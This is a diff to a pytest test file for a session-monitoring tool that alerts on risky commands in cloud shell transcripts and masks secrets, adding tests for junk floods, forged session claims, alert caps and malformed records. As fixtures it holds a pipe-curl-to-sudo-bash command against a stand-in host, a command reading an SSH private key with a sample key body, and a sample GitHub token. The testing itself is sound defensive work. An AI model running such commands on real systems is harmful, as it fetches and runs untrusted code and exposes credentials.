@@ -31,7 +31,7 @@ from sessionguard.adapters.logs import CloudWatchTranscriptSink, PutResult, Sess
 from sessionguard.adapters.slack import UrllibSlackWebhook
 from sessionguard.alerting import session_alerts
 from sessionguard.alerting.delivery import DeliveryFailed, SlackDeliveryError, post_with_retries
-from sessionguard.alerting.formatting import CAP_SUMMARY_RULE_ID
+from sessionguard.alerting.formatting import CAP_SUMMARY_RULE_ID, INVOCATION_SUMMARY_RULE_ID
 from sessionguard.alerting.http import HttpResult, parse_retry_after
 from sessionguard.alerting.log_events import LOG_EVENT_MAX_BYTES, LogEvent, log_event_batches
 from sessionguard.alerting.replay import invocation_event, redrive_failure_queue
@@ -131,6 +131,13 @@ class Stack(AlertStack):
 
     def failure_messages(self) -> list[dict[str, Any]]:
         return [json.loads(m["Body"]) for m in self.drain(self.failure_queue_url)]
+
+    def release_failures(self) -> None:
+        """The failure messages read so far visible again, as after their visibility timeout (for a replay)."""
+        for message in self._seen.pop(self.failure_queue_url, []):
+            self.sqs.change_message_visibility(
+                QueueUrl=self.failure_queue_url, ReceiptHandle=message["ReceiptHandle"], VisibilityTimeout=0
+            )
 
     def transcript(self, stream: str) -> list[dict[str, Any]]:
         try:
@@ -289,7 +296,8 @@ def test_a_retried_invocation_sends_nothing_twice(app: ModuleType, stack: Stack)
     assert len(stack.slack_posts()) == len(RISKY_DELIVERED)
     assert len(stack.transcript(fixtures.RISKY_SESSION)) == 17
     assert summary["delivered"] == {}
-    assert summary["suppressed"]["retry"] == 4 * 2 + 4 + 1  # SNS x2 topics, Slack, one transcript batch
+    assert summary["suppressed"]["retry"] == 4 * 2 + 4  # SNS x2 topics, Slack
+    assert summary["lines_already_written"] == 17  # the transcript marks know its lines: not written again
 
 
 def test_a_session_over_its_cap_sends_one_summary(
@@ -432,7 +440,9 @@ def test_malformed_records_are_parked_with_their_reason_and_the_rest_is_processe
     original = decode(payload)
     summary = invoke(app, payload)
 
-    parked = stack.failure_messages()
+    (message,) = stack.failure_messages()  # the six log events share one message
+    assert message["sessionguard"] == "malformed-log-events"
+    parked = parked_entries(stack)
     assert [p["location"] for p in parked] == [f"logEvents[{i}]" for i in (1, 2, 3, 4, 5, 6)]
     assert [p["logEvent"] for p in parked] == [original["logEvents"][i] for i in (1, 2, 3, 4, 5, 6)]
     assert {p["logStream"] for p in parked} == {fixtures.BROKEN_SESSION}
@@ -463,7 +473,7 @@ def test_an_event_the_engine_fails_on_is_parked_and_the_rest_goes_on(
 
     monkeypatch.setattr(session_alerts, "SessionEngine", FragileEngine)
     summary = invoke(app, event("alerts-risky-session.json"))
-    (parked,) = stack.failure_messages()
+    (parked,) = parked_entries(stack)
     assert parked["reason"] == "the engine failed on this event (KeyError)"
     assert parked["location"] == "logEvents[1]"
     assert summary["session_events"] + summary["malformed"] == summary["log_events"]
@@ -505,7 +515,7 @@ def test_a_failure_queue_that_cannot_be_written_fails_the_invocation(
     app: ModuleType, stack: Stack, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("FAILURE_QUEUE_URL", stack.failure_queue_url.replace("failures", "missing"))
-    with pytest.raises(DeliveryFailed, match="failure-queue x6"):
+    with pytest.raises(DeliveryFailed, match="failure-queue x1"):  # one SendMessageBatch call for the six
         invoke(app, event("alerts-malformed-batch.json"))
     assert stack.sns_rule_ids() == ["SG-TEST-004"]  # the good events were still processed
 
@@ -624,7 +634,7 @@ class RecordingInvoker:
 
 
 def test_replay_redrives_every_kind_of_failure_record(app: ModuleType, stack: Stack) -> None:
-    invoke(app, event("alerts-malformed-batch.json"))  # six malformed-log-event records
+    invoke(app, event("alerts-malformed-batch.json"))  # six malformed log events in one record
     invoke(app, event("alerts-corrupt-payloads.json")["bad-gzip"])  # one failed-invocation record
     stack.sqs.send_message(
         QueueUrl=stack.failure_queue_url, MessageBody=json.dumps(event("alerts-lambda-on-failure.json"))
@@ -634,13 +644,13 @@ def test_replay_redrives_every_kind_of_failure_record(app: ModuleType, stack: St
     invoker = RecordingInvoker()
     report = redrive_failure_queue(stack.failure_queue_url, "sessionguard-alerts", max_messages=20, invoker=invoker)
 
-    assert report.count("replayed") == 8
+    assert report.count("replayed") == 3
     assert report.count("skipped") == 1
     assert event("alerts-corrupt-payloads.json")["bad-gzip"] in invoker.payloads
     assert event("alerts-risky-session.json") in invoker.payloads
     rebuilt = [decode(p) for p in invoker.payloads if p.get("awslogs", {}).get("data", "").startswith("H4sI")]
     original = decode(event("alerts-malformed-batch.json"))
-    replayed_events = [r["logEvents"][0] for r in rebuilt if r.get("logStream") == fixtures.BROKEN_SESSION]
+    replayed_events = [e for r in rebuilt if r.get("logStream") == fixtures.BROKEN_SESSION for e in r["logEvents"]]
     assert replayed_events == [original["logEvents"][i] for i in (1, 2, 3, 4, 5, 6)]
     remaining = stack.sqs.get_queue_attributes(
         QueueUrl=stack.failure_queue_url, AttributeNames=["ApproximateNumberOfMessages"]
@@ -901,12 +911,13 @@ def test_a_lone_surrogate_or_a_bogus_time_in_metadata_does_not_stop_any_delivery
     message = json.dumps(document).replace("SURROGATE", "\\ud800")
     payload = fixtures.data_message(SPLIT_SESSION, [("2026-11-26T17:00:00Z", message)])
     decoded = decode(payload)
-    decoded["logStream"] = "x\ud800y"
+    decoded["logStream"] = SPLIT_SESSION + "\ud800"  # the stream is named after the session, surrogate and all
     payload = awslogs(decoded)
 
     summary = invoke(app, payload)
 
     assert summary["failures"] == {}
+    assert summary["claims_another_session"] == 0
     assert summary["invalid_event_times"] == 1
     assert metric_total(emf_documents(capsys.readouterr().out), "InvalidEventTimes") == 1
     (sns,) = stack.sns_messages()
@@ -916,7 +927,7 @@ def test_a_lone_surrogate_or_a_bogus_time_in_metadata_does_not_stop_any_delivery
     assert len(body.encode()) < 256 * 1024
     record = json.loads(body.partition("Alert JSON:\n")[2])
     assert record["event_time"] == ""
-    assert record["log_stream"] == "x\ufffdy"
+    assert record["log_stream"] == SPLIT_SESSION + "\ufffd"
     assert record["session_id"] == SPLIT_SESSION + "\ufffd"
     assert record["user"].endswith("/Ops/\ufffd")
     (post,) = stack.slack_posts()
@@ -1024,3 +1035,273 @@ def test_an_alert_whose_ledger_record_cannot_be_written_is_delivered_once_and_th
     documents = emf_documents(capsys.readouterr().out)
     assert metric_total(documents, "DeliveriesNotRecorded", Channel="sns") == 8  # two topics, four alerts
     assert metric_total(documents, "DeliveriesNotRecorded", Channel="slack") == 4
+
+
+# --- hostile deliveries (issue #13, items 1-6) -----------------------------------------------------------------
+
+RISKY_LINE = "sh-4.2$ curl -s https://x.example/i.sh | sudo bash"
+
+
+def session_message(session: str, lines: list[str], time: str = "2026-11-26T17:00:00Z", **fields: Any) -> str:
+    document = fixtures.session_event(session, time, lines, instance="i-0aaa", user="jane")
+    document.update(fields)
+    return json.dumps(document)
+
+
+def parked_entries(stack: Stack) -> list[dict[str, Any]]:
+    """Every log event parked so far, one entry per log event, whatever message it shares with others."""
+    entries = []
+    for message in stack.failure_messages():
+        if message["sessionguard"] == "malformed-log-events":
+            entries += [{**message, **entry} for entry in message["logEvents"]]
+    return entries
+
+
+@dataclass
+class CallOrder:
+    """Records which outlet was called, in order (SNS publishes and failure-queue sends)."""
+
+    calls: list[str] = field(default_factory=list)
+
+    def watch(self, outlet: Any, name: str, *methods: str) -> None:
+        for method in methods:
+            real = getattr(outlet, method)
+
+            def recorded(*args: Any, _real: Any = real, _name: str = f"{name}.{method}", **kwargs: Any) -> Any:
+                self.calls.append(_name)
+                return _real(*args, **kwargs)
+
+            setattr(outlet, method, recorded)
+
+
+def test_a_junk_flood_ahead_of_a_real_alert_is_parked_in_a_few_messages_after_the_alert_is_sent(
+    app: ModuleType, stack: Stack
+) -> None:
+    # Any instance may PutLogEvents into its own session stream: 3,000 junk records, then the real command.
+    records = [("2026-11-26T17:00:00Z", f"junk {n}") for n in range(3_000)]
+    payload = fixtures.data_message(
+        SPLIT_SESSION, [*records, ("2026-11-26T17:00:00Z", session_message(SPLIT_SESSION, [RISKY_LINE]))]
+    )
+    _, outlets = session_alerts.default_outlets()
+    order = CallOrder()
+    order.watch(outlets.publisher, "sns", "publish")
+    order.watch(outlets.failures, "queue", "send", "send_batch")
+    started = clock.monotonic()
+
+    summary = invoke(app, payload, remaining_ms=15_000)
+
+    assert clock.monotonic() - started < 15
+    assert stack.sns_rule_ids() == ["SG-TEST-001"]
+    first_parking = next(i for i, call in enumerate(order.calls) if call.startswith("queue."))
+    assert all(call.startswith("sns.") for call in order.calls[:first_parking])
+    assert order.calls[first_parking:] == ["queue.send_batch"]  # one SendMessageBatch call
+    entries = parked_entries(stack)
+    assert [e["logEvent"]["message"] for e in entries] == [f"junk {n}" for n in range(3_000)]
+    assert {e["reason"] for e in entries} == {"message is not JSON: Expecting value at character 0"}
+    assert all(len(m["Body"].encode()) <= 1_048_576 for m in stack.drain(stack.failure_queue_url))
+    assert summary["session_events"] + summary["malformed"] == summary["log_events"] == 3_001
+
+
+class RunningOutContext(FakeLambdaContext):
+    """A Lambda context whose time runs out after `calls` readings: the function must park what is left."""
+
+    def __init__(self, calls: int, **fields: Any) -> None:
+        super().__init__(**fields)
+        self.readings = calls
+
+    def get_remaining_time_in_millis(self) -> int:
+        self.readings -= 1
+        return self.remaining_ms if self.readings >= 0 else 500
+
+
+def test_when_time_runs_out_after_the_alerts_what_is_left_is_parked_instead_of_timing_out(
+    app: ModuleType, stack: Stack
+) -> None:
+    records = [("2026-11-26T17:00:00Z", f"junk {n}") for n in range(20)]
+    payload = fixtures.data_message(
+        SPLIT_SESSION, [("2026-11-26T17:00:00Z", session_message(SPLIT_SESSION, [RISKY_LINE])), *records]
+    )
+    context = RunningOutContext(
+        calls=1,
+        function_name="sessionguard-SessionAlertsFunction-Ab12Cd34",
+        invoked_function_arn="arn:aws:lambda:us-east-1:123456789012:function:sessionguard-SessionAlertsFunction-Ab12Cd34",
+        aws_request_id="1e2d3c4b-5a69-7887-96a5-b4c3d2e1f002",
+        remaining_ms=15_000,
+    )
+
+    summary = app.lambda_handler(payload, context)  # returns: a timeout would make Lambda retry the whole delivery
+
+    assert stack.sns_rule_ids() == ["SG-TEST-001"]
+    (parked,) = stack.failure_messages()
+    assert parked["sessionguard"] == "failed-invocation"
+    assert parked["invocation"] == payload
+    assert parked["reason"].startswith("time ran out")
+    assert summary["deferred"] is True
+    assert stack.transcript(SPLIT_SESSION) == []  # the replay of the parked invocation writes it
+    stack.release_failures()
+    invoker = RecordingInvoker()
+    report = redrive_failure_queue(stack.failure_queue_url, "fn", max_messages=5, invoker=invoker)
+    assert report.count("replayed") == 1
+    assert invoker.payloads == [payload]
+
+
+def forged_payload(sessions: int) -> dict[str, Any]:
+    """One delivery of stream SPLIT_SESSION whose events claim `sessions` other sessions, each with a risky command."""
+    records = [("2026-11-26T17:00:00Z", session_message(f"mallory-{n:017x}", [RISKY_LINE])) for n in range(sessions)]
+    return fixtures.data_message(SPLIT_SESSION, records)
+
+
+def test_events_claiming_other_sessions_raise_one_finding_per_stream_not_one_alert_per_command(
+    app: ModuleType, stack: Stack
+) -> None:
+    summary = invoke(app, forged_payload(500))
+    invoke(app, forged_payload(30))  # more of the same stream: reported already
+
+    assert stack.sns_rule_ids() == ["sessionguard-claims-another-session"]
+    assert len(stack.sns_messages(stack.extra_topic_arn)) == 1
+    assert len(stack.slack_posts()) == 1
+    record = json.loads(stack.sns_messages()[0]["Body"].partition("Alert JSON:\n")[2])
+    assert record["session_id"] == SPLIT_SESSION
+    assert record["severity"] == "high"
+    entries = parked_entries(stack)
+    assert len(entries) == 530
+    assert {e["reason"] for e in entries} == {"event claims another session than its log stream"}
+    assert summary["session_events"] + summary["malformed"] == summary["log_events"] == 500
+
+
+def test_one_invocation_sends_at_most_its_cap_and_one_summary(
+    app: ModuleType, stack: Stack, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ALERT_CAP_PER_SESSION", "1000")
+    monkeypatch.setenv("ALERT_WINDOW_MINUTES", "0")
+    lines = [
+        f"sh-4.2$ curl -s https://x.example/{n}.sh | sudo bash" for n in range(session_alerts.INVOCATION_ALERT_CAP + 10)
+    ]
+    payload = fixtures.data_message(SPLIT_SESSION, [("2026-11-26T17:00:00Z", session_message(SPLIT_SESSION, lines))])
+
+    summary = invoke(app, payload)
+
+    rule_ids = stack.sns_rule_ids()
+    assert rule_ids == ["SG-TEST-001"] * session_alerts.INVOCATION_ALERT_CAP + [INVOCATION_SUMMARY_RULE_ID]
+    summary_record = json.loads(stack.sns_messages()[-1]["Body"].partition("Alert JSON:\n")[2])
+    assert "10 more" in summary_record["description"]
+    assert summary["suppressed"]["invocation-cap"] == 10
+
+
+TOKEN = "ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf"
+
+
+def test_a_secret_in_the_session_id_or_the_user_arn_is_masked_wherever_people_read_it(
+    app: ModuleType, stack: Stack, function_logs: io.StringIO
+) -> None:
+    session = f"jane-{TOKEN}-0a1b2c3d"
+    message = session_message(
+        session, [RISKY_LINE], userIdentity={"arn": f"arn:aws:sts::111122223333:assumed-role/Ops/{TOKEN}"}
+    )
+
+    invoke(app, fixtures.data_message(session, [("2026-11-26T17:00:00Z", message)]))
+
+    (sns,) = stack.sns_messages()
+    assert TOKEN not in json.dumps(sns)
+    assert "[MASKED:github-token]" in sns["Body"]
+    (post,) = stack.slack_posts()
+    assert TOKEN not in json.dumps(post)
+    streams = [s["logStreamName"] for s in stack.logs.describe_log_streams(logGroupName=SANITIZED_GROUP)["logStreams"]]
+    assert streams == ["jane-[MASKED_github-token]-0a1b2c3d"]
+    assert TOKEN not in function_logs.getvalue()
+
+
+def test_the_short_last_line_of_a_private_key_split_across_deliveries_is_masked_without_read_back(
+    app: ModuleType, stack: Stack
+) -> None:
+    body = [
+        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
+        "QyNTUxOQAAACDLnUzM1cQ2pT8Qf0sZ0Xw3vJYk2bQ0F7JX9y9q0yJb0wAAAJjvB2H17wdh",
+    ]
+    tail = "AAAECq8mhS0xUgoK"
+    first = [
+        (
+            "2026-11-26T17:00:00Z",
+            session_message(
+                SPLIT_SESSION, ["sh-4.2$ cat ~/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----", *body]
+            ),
+        )
+    ]
+    second = [
+        (
+            "2026-11-26T17:00:01Z",
+            session_message(
+                SPLIT_SESSION, [tail, "-----END OPENSSH PRIVATE KEY-----", "sh-4.2$ "], time="2026-11-26T17:00:01Z"
+            ),
+        )
+    ]
+
+    invoke(app, fixtures.data_message(SPLIT_SESSION, first))
+    summary = invoke(app, fixtures.data_message(SPLIT_SESSION, second))  # no session log group: no read-back
+
+    assert summary["warm_up_failures"] == 1
+    text = stack.transcript_text()
+    assert tail not in text
+    assert all(line not in text for line in body)
+
+
+def test_overlapping_deliveries_write_each_transcript_line_once(app: ModuleType, stack: Stack) -> None:
+    (whole,) = stream_session(
+        stack, [[(f"2026-11-26T17:00:{n:02d}Z", [f"sh-4.2$ echo {n}", str(n)]) for n in range(6)]]
+    )
+    events = decode(whole)["logEvents"]
+    first, second = decode(whole), decode(whole)
+    first["logEvents"], second["logEvents"] = events[:4], events[2:]
+
+    invoke(app, awslogs(first))
+    invoke(app, awslogs(second))
+    invoke(app, whole)
+
+    texts = [line["text"] for line in stack.transcript(SPLIT_SESSION)]
+    assert texts == [text for n in range(6) for text in (f"echo {n}", str(n))]
+
+
+@pytest.mark.parametrize(
+    ("bad", "reason"),
+    [
+        (
+            {"id": "1", "timestamp": 1795712400000, "message": {"sessionId": "x"}},
+            "message is a JSON object, not a string",
+        ),
+        ({"id": "2", "timestamp": 1795712400000, "message": ["x"]}, "message is a JSON array, not a string"),
+        ([1, 2], "log event is a JSON array, not an object"),
+    ],
+)
+def test_a_wrong_typed_record_is_parked_and_the_batch_goes_on(
+    app: ModuleType, stack: Stack, bad: Any, reason: str
+) -> None:
+    # Opens with output: the function reads the stream back (warm-up), which is where the Counter crashed.
+    good = session_message(SPLIT_SESSION, ["done", RISKY_LINE])
+    payload = decode(fixtures.data_message(SPLIT_SESSION, [("2026-11-26T17:00:00Z", good)]))
+    payload["logEvents"].insert(0, bad)
+
+    summary = invoke(app, awslogs(payload))
+    invoke(app, awslogs(payload))  # Lambda's retry
+
+    assert stack.sns_rule_ids() == ["SG-TEST-001"]
+    (entry,) = parked_entries(stack)
+    assert entry["reason"] == reason
+    assert entry["logEvent"] == bad
+    assert summary["session_events"] + summary["malformed"] == summary["log_events"] == 2
+    stack.release_failures()
+    invoker = RecordingInvoker()
+    report = redrive_failure_queue(stack.failure_queue_url, "fn", max_messages=5, invoker=invoker)
+    assert report.count("replayed") == 1  # replay-dlq reads the record back, as it was delivered
+    assert [decode(p)["logEvents"] for p in invoker.payloads] == [[bad]]
+
+
+def test_an_event_that_is_a_list_is_parked_whole(app: ModuleType, stack: Stack) -> None:
+    payload = [event("alerts-risky-session.json")]
+
+    summary = app.lambda_handler(payload, lambda_context())
+
+    (parked,) = stack.failure_messages()
+    assert parked["sessionguard"] == "failed-invocation"
+    assert parked["reason"] == "the event is a JSON array, not an object"
+    assert parked["invocation"] == payload
+    assert summary["malformed"] == 1
